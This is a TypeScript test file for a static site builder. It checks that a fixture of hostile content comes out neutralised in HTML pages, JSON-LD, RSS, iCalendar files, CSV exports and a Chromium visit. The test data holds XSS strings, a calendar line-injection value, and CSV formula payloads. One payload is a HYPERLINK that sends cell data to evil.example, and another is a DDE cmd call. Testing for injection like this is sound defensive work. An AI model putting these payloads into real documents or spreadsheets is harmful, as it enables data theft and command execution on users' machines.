// A content folder with hostile values in every field that reaches an output, and a meeting whose
// body tries every way to run script, built once: each output is read as its reader would (pages with
// html-validate, JSON-LD, RSS, iCalendar, CSV, data files), and the body's page is visited in Chromium,
// where nothing of it runs.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import ICAL from 'ical.js';
import { XMLParser } from 'fast-xml-parser';
import { HtmlValidate, StaticConfigLoader } from 'html-validate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { builtFixture } from '../helpers/fixture-build.ts';
import { dataFileErrors, filesIn, htmlValidateConfig, htmlValidateSite } from '../helpers/built-site.ts';
import { headersFor, readHeadersFile } from '../helpers/headers.ts';
import { fixture, runScript } from '../helpers/run.ts';
import { openBuilt } from '../helpers/site.ts';
import { progress } from '../helpers/browser.ts';
import type { OpenSite } from '../helpers/site.ts';

const { out, read } = builtFixture('hostile');
const SITE = 'https://hostile.example';
const MEETING = 'meetings/2025-09-01-gia-tri-doc-hai/index.html';
/** The meeting whose body tries every way to run script: its page, and its file in the fixture. */
const PAGE = '/meetings/2025-08-15-noi-dung-doc-hai/';
const BODY_FILE = 'meetings/2025-08-15-noi-dung-doc-hai.vi.md';
const xml = new XMLParser({ ignoreAttributes: false, isArray: (name) => ['item', 'atom:link'].includes(name) });
const pages = () => filesIn(out).filter((f) => f.endsWith('.html'));

describe('pages', () => {
  it('pass html-validate with the committed configuration, which reports obsolete markup', async () => {
    expect(await htmlValidateSite(out)).toEqual([]);
    // The configuration is not one that lets anything through.
    const report = await new HtmlValidate(new StaticConfigLoader(htmlValidateConfig())).validateString('<!DOCTYPE html><html lang="vi"><head><title>x</title></head><body><main><table><tr><th align="left">a</th></tr></table></main></body></html>');
    expect(report.results.flatMap((r) => r.messages.map((m) => m.ruleId))).toContain('no-deprecated-attr');
  });

  it('keep every JSON-LD element closed: no value ends it, and each is JSON', () => {
    for (const page of pages()) {
      for (const [, text] of read(page).matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)) {
        expect(text, page).not.toMatch(/<\//);
        expect(() => JSON.parse(text!), page).not.toThrow();
      }
    }
  });

  it('give a meeting NewsArticle data with author and publisher logo, a BreadcrumbList, and x-default', () => {
    const html = read(MEETING);
    const blocks = [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map((m) => JSON.parse(m[1]!));
    const article = blocks.find((b) => b['@type'] === 'NewsArticle');
    expect(article.headline).toBe('</script><script>alert("title")</script> Họp "thử" & <b>đậm</b>');
    expect(article.author).toMatchObject({ '@type': 'Organization', name: 'Bộ phận "kiểm thử" </script><script>alert(1)</script>' });
    expect(article.publisher.logo).toEqual({ '@type': 'ImageObject', url: `${SITE}/favicon.svg` });
    const crumbs = blocks.find((b) => b['@type'] === 'BreadcrumbList');
    expect(crumbs.itemListElement[0]).toEqual({ '@type': 'ListItem', position: 1, name: 'Trang chủ', item: `${SITE}/` });
    expect(html).toContain(`<link rel="alternate" hreflang="x-default" href="${SITE}/meetings/2025-09-01-gia-tri-doc-hai/">`);
    expect(read('en/meetings/2025-09-01-gia-tri-doc-hai/index.html')).toContain(`<link rel="alternate" hreflang="x-default" href="${SITE}/meetings/2025-09-01-gia-tri-doc-hai/">`);
  });

  it('publish a body with no stray "-->", no script, and table alignment as classes', () => {
    const body = /<div class="app-article__body">([\s\S]*?)<\/div>/.exec(read(MEETING))![1]!;
    expect(body).toContain('Đoạn mở đầu  tiếp theo.');
    expect(body).not.toMatch(/-->|&#x3C;!--|<script|__pwned|align=/);
    expect(body).toContain('<th class="align-center">Giá trị</th>');
  });

  it('have an h1 on every embed page, one region per table on the data page, and a 404 page in both languages', () => {
    for (const page of pages().filter((p) => p.includes('embed/'))) expect(read(page), page).toMatch(/<h1\b/);
    for (const page of ['data/index.html', 'en/data/index.html']) {
      const html = read(page);
      const labels = [...html.matchAll(/<(?:section|div)\b[^>]*\baria-labelledby="([^"]+)"/g)].map((m) => m[1]);
      expect(labels.length).toBeGreaterThan(0);
      expect(new Set(labels).size).toBe(labels.length);
      expect(html).not.toContain('role="region"');
      expect(html).toContain('href="/data/datapackage.json"');
    }
    const notFound = read('404.html');
    expect(notFound).toContain('<h1>Không tìm thấy trang</h1>');
    expect(notFound).toMatch(/<section lang="en"[^>]*>\s*<h2[^>]*>Page not found<\/h2>/);
    expect(notFound).toContain('<a href="/en/" hreflang="en">Home</a>');
    expect(notFound).not.toMatch(/<script\b(?![^>]*application\/ld\+json)/);
  });

  it('are each covered by one CSP rule in _headers, framing refused unless an embed', () => {
    const rules = readHeadersFile(path.join(out, '_headers'));
    for (const page of pages()) {
      const url = `/${page.replace(/index\.html$/, '')}`;
      const headers = headersFor(rules, url);
      const csp = headers.filter(([name]) => name === 'content-security-policy');
      expect(csp, url).toHaveLength(1);
      expect(csp[0]![1].includes("frame-ancestors 'none'"), url).toBe(!url.includes('/embed/'));
      expect(csp[0]![1].includes('wasm-unsafe-eval'), url).toBe(url.includes('/search/'));
    }
  });
});

describe('RSS', () => {
  it('gives leads as text that a reader cannot take for markup', () => {
    const item = xml.parse(read('rss.xml')).rss.channel.item[0];
    // After the XML is read, the description is HTML whose text is the lead: no element in it.
    expect(item.description).toBe('&quot;&gt;&lt;img src=x onerror=alert(1)&gt; Tóm tắt &lt;/description&gt;&lt;script&gt;alert(3)&lt;/script&gt;]]&gt;');
    expect(item.description).not.toMatch(/<[a-z/]/i);
  });

  it('names itself and has a lastBuildDate from the newest meeting', () => {
    for (const [file, self] of [['rss.xml', `${SITE}/rss.xml`], ['en/meetings/level/province/rss.xml', `${SITE}/en/meetings/level/province/rss.xml`]] as const) {
      const feed = xml.parse(read(file));
      expect(feed.rss['@_xmlns:atom']).toBe('http://www.w3.org/2005/Atom');
      expect(feed.rss.channel['atom:link']).toEqual([{ '@_href': self, '@_rel': 'self', '@_type': 'application/rss+xml' }]);
      expect(feed.rss.channel.lastBuildDate).toBe('Sun, 31 Aug 2025 17:00:00 GMT');
    }
  });
});

describe('calendars', () => {
  it('hold no line that a value started, and list a deadline once', () => {
    const text = read('calendar/deadlines.ics');
    expect(text.split('\r\n').filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(3);
    expect(text.split(/\r\n|\r|\n/).filter((l) => /^(END|BEGIN):VEVENT$/.test(l))).toHaveLength(6);
    const events = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    expect(events.map((e) => e.uid)).toEqual(['direction-2025-09-01-gia-tri-doc-hai-2@hostile.example', 'task-T2@hostile.example', 'task-T1@hostile.example']);
    expect(events[1]!.description).toContain('Hoàn thành T2\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:giả');
  });

  it('are valid for a unit with no deadline', () => {
    const calendar = new ICAL.Component(ICAL.parse(read('calendar/units/u-2.ics')));
    expect(calendar.getAllSubcomponents('vevent')).toEqual([]);
    expect(calendar.getAllSubcomponents().length).toBeGreaterThan(0);
  });
});

describe('data files', () => {
  it('tasks.csv: UTF-8 with BOM, no cell that a spreadsheet runs, absolute task URLs', () => {
    const bytes = readFileSync(path.join(out, 'data/tasks.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = bytes.toString('utf8').slice(1).trim().split('\r\n').slice(1);
    // Each cell starts after a comma or at the line start, quoted or not.
    for (const row of rows) expect(row, row).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    expect(rows[0]).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")"`);
    expect(rows[1]).toContain(`'=cmd|' /C calc'!A0`);
    expect(rows[1]).toContain(`,${SITE}/tasks/T2/,`);
  });

  it('each pass the JSON Schema published beside them', () => {
    expect(dataFileErrors(out)).toEqual([]);
    expect(JSON.parse(read('data/tasks.json'))[0]).not.toHaveProperty('file');
  });

  it('are described by datapackage.json, with the licence from site.yaml', () => {
    const pkg = JSON.parse(read('data/datapackage.json'));
    expect(pkg.licenses).toEqual([{ title: 'CC-BY-4.0', name: 'CC-BY-4.0', path: 'https://creativecommons.org/licenses/by/4.0/' }]);
    for (const resource of pkg.resources) expect(() => read(`data/${resource.path}`)).not.toThrow();
  });
});

describe('a hostile meeting body', () => {
  let site: OpenSite;
  beforeAll(async () => {
    site = await openBuilt(out);
  });
  afterAll(() => site?.close());

  it('publishes, with a warning at the line of each piece of markup removed', () => {
    const result = runScript('validate.ts', [], { CONTENT_DIR: fixture('hostile') });
    expect(result.status).toBe(0);
    // The body's own warnings: the meeting of hostile values has some of its own.
    const warnings = result.stdout.split('\n').filter((l) => l.startsWith(`${BODY_FILE}:`) && l.includes(': warning: '));
    const lines = warnings.map((l) => Number(l.split(':')[1]));
    for (const line of [11, 13, 15, 17, 19, 21, 23, 25, 27, 29, 31, 33, 35]) expect(lines, `line ${line}\n${result.stdout}`).toContain(line);
  });

  it('reaches the page with no script, no event handler, no javascript: URL and no frame', () => {
    const html = read(`${PAGE.slice(1)}index.html`);
    const body = /<div class="app-article__body">([\s\S]*?)<\/div>/.exec(html)![1]!;
    expect(body).toContain('Đoạn mở đầu <sup>1</sup>');
    expect(body).not.toMatch(/<(script|iframe|object|embed|svg|math|style|form|img|details)\b/i);
    expect(body).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
    expect([...html.matchAll(/<script\b[^>]*>/g)].every((m) => /type="application\/ld\+json"|src="\/_astro\//.test(m[0]))).toBe(true);
  });

  it('runs nothing in Chromium, even when hovered and clicked', async () => {
    const page = await site.browser.newPage();
    const dialogs: string[] = [];
    page.on('dialog', async (dialog) => {
      dialogs.push(dialog.message());
      await dialog.dismiss();
    });
    await page.goto(site.url + PAGE);
    const all = await page.locator('.app-article__body *').all();
    // What takes no room on the page cannot be pointed at; Playwright would wait a second for each.
    const elements = [];
    for (const element of all) if (await element.isVisible()) elements.push(element);
    progress('hostile', `hovering and clicking the ${elements.length} elements of the body that can be pointed at, of ${all.length}`);
    expect(elements.length).toBeGreaterThan(5);
    for (const element of elements) {
      await element.hover({ timeout: 1000 }).catch(() => undefined);
      await element.click({ timeout: 1000, noWaitAfter: true }).catch(() => undefined);
      if (page.url() !== site.url + PAGE) await page.goto(site.url + PAGE);
    }
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await page.locator('body').isVisible()).toBe(true);
    await page.close();
  }, 120_000);
});
